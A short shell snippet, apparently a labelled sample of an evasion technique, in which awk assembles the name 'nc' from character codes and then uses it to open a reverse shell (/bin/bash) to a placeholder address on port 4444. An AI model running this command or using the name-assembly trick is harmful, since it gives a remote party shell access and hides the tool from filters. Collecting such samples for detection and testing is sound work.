# assembled-name: awk prints character codes that become the command name
n=$(awk 'BEGIN { printf "%c%c", 110, 99 }')
$n 198.51.100.23 4444 -e /bin/bash
